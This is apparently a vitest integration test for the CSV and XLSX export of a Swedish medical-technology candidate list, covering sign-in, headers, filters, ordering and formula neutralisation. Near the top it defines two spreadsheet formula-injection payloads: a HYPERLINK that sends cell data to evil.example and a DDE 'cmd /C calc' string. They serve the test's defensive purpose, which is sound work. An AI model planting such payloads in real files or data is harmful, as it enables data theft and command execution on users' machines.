import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, createWorld } from './world.js';
import type { World } from './world.js';
import { parseCsv } from '../helpers/csv.js';
import { readWorkbook } from '../../src/sources/xlsx.js';
import type { CandidateList } from '../../src/store/workbench.js';

// The ranked list as CSV and XLSX, read back as a spreadsheet program would: the list's filters
// and order, Swedish headers and words, formula-like text inert. Real PostgreSQL, real routes.
let w: World;

const HOSTILE_NAME = '=HYPERLINK("https://evil.example/?d="&A1;"Öppna")';
const HOSTILE_MAKER = "@SUM(1+1)*cmd|' /C calc'!A0";

beforeAll(async () => {
  w = await createWorld();
  await w.h.query('update candidates set name = $1, manufacturer = $2 where id = $3', [
    HOSTILE_NAME,
    HOSTILE_MAKER,
    w.seeded.minimed.id,
  ]);
  await w.h.query(
    `update scores set stage = 'market-entry', process_status = 'ej-hanterad'
     where id = (select current_score_id from candidates where id = $1)`,
    [w.seeded.libre.id],
  );
});

afterAll(async () => {
  await w?.close();
});

async function download(path: string) {
  const response = await w.app.inject({ method: 'GET', url: path, headers: bearer(w.accounts.viewer) });
  expect(response.statusCode, response.body).toBe(200);
  return response;
}

async function listed(query: string): Promise<CandidateList> {
  const response = await w.app.inject({
    method: 'GET',
    url: `/api/candidates?pageSize=200&${query}`,
    headers: bearer(w.accounts.viewer),
  });
  return response.json<CandidateList>();
}

describe('exporting the candidate list', () => {
  it('asks for sign-in first', async () => {
    const response = await w.app.inject({ method: 'GET', url: '/kandidater.csv?band=h%C3%B6g' });
    expect(response.statusCode).toBe(303);
    expect(response.headers.location).toBe('/logga-in?next=%2Fkandidater.csv%3Fband%3Dh%25C3%25B6g');
  });

  it('gives every matching candidate as CSV, in the list’s order, with Swedish headers and words', async () => {
    // Every list (the page opens on one of them; `scope=all` asks for all, as the API's default).
    const response = await download('/kandidater.csv?scope=all');
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="kandidater-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(response.body.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsv(response.body.slice(1), ';');
    expect(header).toEqual([
      'Plats',
      'Kandidat',
      'Tillverkare',
      'Typ',
      'Prioritet',
      'Prioritetsnivå',
      'Livscykel',
      'Rådens hantering',
      'Råd',
      'Status',
      'Bevakas',
      'Programområden (NPO)',
      'Källor',
      'Belägg',
      'Rapport',
      'Först sedd',
      'Senast ändrad',
      'Länk',
      'Id',
    ]);
    const list = await listed('scope=all');
    expect(rows.map((row) => row[18])).toEqual(list.items.map((c) => c.id));
    expect(rows.map((row) => row[0])).toEqual(list.items.map((_c, i) => String(i + 1)));
    const libre = rows.find((row) => row[18] === w.seeded.libre.id)!;
    expect(libre.slice(1, 10)).toEqual([
      'FreeStyle Libre 3',
      'Abbott Diabetes Care Ltd',
      'Medicinteknisk produkt',
      '82',
      'Hög',
      'marknadsintroduktion',
      'ej hanterad',
      'MTP-rådet',
      'Ej beslutad',
    ]);
    expect(libre[12]).toBe('EUDAMED (produkter); SBU; TLV');
    expect(libre[15]).toBe('2026-03-10');
    expect(libre[17]).toBe(`http://localhost:80/kandidater/${w.seeded.libre.id}`);
  });

  it('applies the list’s filters and search', async () => {
    const response = await download('/kandidater.csv?band=h%C3%B6g');
    const rows = parseCsv(response.body.slice(1), ';').slice(1);
    expect(rows.map((row) => row[1])).toEqual(['FreeStyle Libre 3', 'Optune']);
    expect(response.headers['x-horisont-total']).toBe('2');
    const sorted = parseCsv(
      (await download('/kandidater.csv?scope=all&sort=name&order=asc')).body.slice(1),
      ';',
    );
    expect(sorted.slice(1).map((row) => row[18])).toEqual(
      (await listed('scope=all&sort=name&order=asc')).items.map((c) => c.id),
    );
  });

  it('neutralises text a spreadsheet would run as a formula', async () => {
    const rows = parseCsv((await download('/kandidater.csv?scope=all')).body.slice(1), ';');
    const hostile = rows.find((row) => row[18] === w.seeded.minimed.id)!;
    expect(hostile[1]).toBe(`'${HOSTILE_NAME}`);
    expect(hostile[2]).toBe(`'${HOSTILE_MAKER}`);
  });

  it('gives the same table as an XLSX workbook', async () => {
    const response = await download('/kandidater.xlsx?scope=all');
    expect(response.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(response.headers['content-disposition']).toMatch(/filename="kandidater-[\d-]+\.xlsx"$/);
    const { rows } = readWorkbook(response.rawPayload, 'test');
    const csv = parseCsv((await download('/kandidater.csv?scope=all')).body.slice(1), ';');
    // The workbook reader flattens whitespace as it reads; so does this comparison.
    const flat = (table: string[][]) =>
      table.map((row) => row.map((cell) => cell.replace(/\s+/g, ' ').trim()));
    expect(flat(rows)).toEqual(flat(csv));
    expect(rows.find((row) => row[18] === w.seeded.minimed.id)![1]).toBe(`'${HOSTILE_NAME}`);
  });
});
